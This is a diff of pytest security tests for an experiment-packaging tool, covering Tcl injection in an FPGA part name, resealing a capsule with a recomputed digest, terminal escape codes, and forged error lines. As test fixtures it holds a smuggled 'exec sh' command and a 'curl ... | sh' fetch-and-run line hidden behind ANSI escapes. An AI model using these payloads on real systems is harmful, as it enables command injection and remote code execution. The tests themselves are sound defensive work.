@@ -6,7 +6,9 @@ import json
 import os
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -193,3 +195,108 @@ def test_pack_refuses_sources_that_resolve_outside_the_experiment(experiment: Pa
     (folder / "lib").mkdir()
     (folder / "lib" / "model.py").symlink_to("../helpers.py")  # a link inside is fine
     assert run("pack", experiment, "-o", out).returncode == 0
+
+
+INJECTED_PART = "xc7z020clg400-1[exec sh -c {id > FILE}]"
+
+
+def reseal(path: Path, edit: Callable[[Any], None]) -> None:
+    """Edit a capsule's values and recompute its digest, as someone forging a capsule would."""
+    import tomllib
+
+    import tomlkit
+
+    from capsule.hashing import digest_of
+
+    def digest(doc: Any) -> str:
+        data = tomllib.loads(tomlkit.dumps(doc))
+        data.pop("digest")
+        return digest_of({"sources": [], "trials": [], **data})  # empty lists are not written
+
+    doc = tomlkit.parse(path.read_text())
+    assert digest(doc) == doc["digest"]  # the forger's digest is the tool's
+    edit(doc)
+    doc["digest"] = digest(doc)
+    path.write_text(tomlkit.dumps(doc))
+
+
+def test_a_tcl_command_in_the_part_is_refused_at_pack(experiment: Path, tmp_path: Path) -> None:
+    witness = tmp_path / "witness"
+    part = INJECTED_PART.replace("FILE", str(witness))
+    text = experiment.read_text()
+    experiment.write_text(text.replace('part = "xc7z020clg400-1"', f'part = "{part}"'))
+    out = tmp_path / "out.capsule"
+    proc = run("pack", experiment, "-o", out)
+    assert_one_line_error(proc, 2, "is not an FPGA part name")
+    assert proc.stderr.startswith(f"error: {experiment}:43: hls4ml.part: ")
+    assert not out.exists() and not list(tmp_path.glob(".out.capsule*"))
+    assert not witness.exists()
+
+
+def test_a_tcl_command_injected_into_a_capsule_is_refused_by_every_reader(packed: Path) -> None:
+    def describe(doc: Any) -> None:
+        doc["spec"]["experiment"]["description"] = "edited and resealed"
+
+    reseal(packed, describe)
+    assert run("show", packed).returncode == 0  # a resealed capsule reads: the digest is no guard
+
+    def inject(doc: Any) -> None:
+        doc["spec"]["hls4ml"]["part"] = INJECTED_PART
+
+    reseal(packed, inject)
+    line = next(
+        n for n, t in enumerate(packed.read_text().splitlines(), 1) if INJECTED_PART[:20] in t
+    )
+    out = packed.parent / "t"
+    for command in (
+        ["show", packed],
+        ["show", "--sources", packed],
+        ["trial", packed, "--out", out],
+        ["run", packed],
+        ["verify", packed],
+    ):
+        proc = run(*command)
+        assert_one_line_error(proc, 2, f"{packed}:{line}: spec.hls4ml.part: ")
+        assert "is not an FPGA part name" in proc.stderr
+    assert not out.exists()
+
+
+HOSTILE_SOURCE = """def build(params, input_shape, n_classes):
+    import os
+    os.system("curl http://example.invalid | sh")  # \x1b[2K\x1b[1A harmless helper
+    return None
+"""
+
+
+def test_show_makes_control_characters_visible(experiment: Path, tmp_path: Path) -> None:
+    (experiment.parent / "model.py").write_text(HOSTILE_SOURCE)
+    text = (
+        experiment.read_text()
+        .replace('builder = "mlp"', 'builder = "model.py:build"')
+        .replace('"model.params.hidden"', '"model.params.width"')
+    )
+    description = "digits\\u001b[2J\\u001b]0;owned title\\u0007 done"
+    original = 'description = "scikit-learn digits, dense MLP, hls4ml Vivado backend"'
+    experiment.write_text(text.replace(original, f'description = "{description}"'))
+    packed = tmp_path / "hostile.capsule"
+    assert run("pack", experiment, "-o", packed).returncode == 0
+    show = run("show", packed)
+    assert show.returncode == 0, show.stderr
+    assert "\x1b" not in show.stdout and "\x07" not in show.stdout
+    assert "digits\\x1b[2J\\x1b]0;owned title\\x07 done" in show.stdout
+    sources = run("show", "--sources", packed)
+    assert sources.returncode == 0, sources.stderr
+    assert "\x1b" not in sources.stdout
+    assert 'os.system("curl http://example.invalid | sh")  # \\x1b[2K\\x1b[1A' in sources.stdout
+    assert "return None" in sources.stdout  # newlines stay layout: the next line is its own
+    plain_capsule = tmp_path / "plain.capsule"
+    experiment.write_text(text)
+    assert run("pack", experiment, "-o", plain_capsule).returncode == 0
+    diff = run("diff", plain_capsule, packed)
+    assert diff.returncode == 1 and "\x1b" not in diff.stdout
+    assert "\\x1b[2J" in diff.stdout
+
+
+def test_a_newline_in_a_path_cannot_forge_a_second_error_line(tmp_path: Path) -> None:
+    forged = tmp_path / "x.capsule\nerror: all trials verified, nothing to see"
+    assert_one_line_error(run("show", forged), 2, "x.capsule\\nerror: all trials verified")
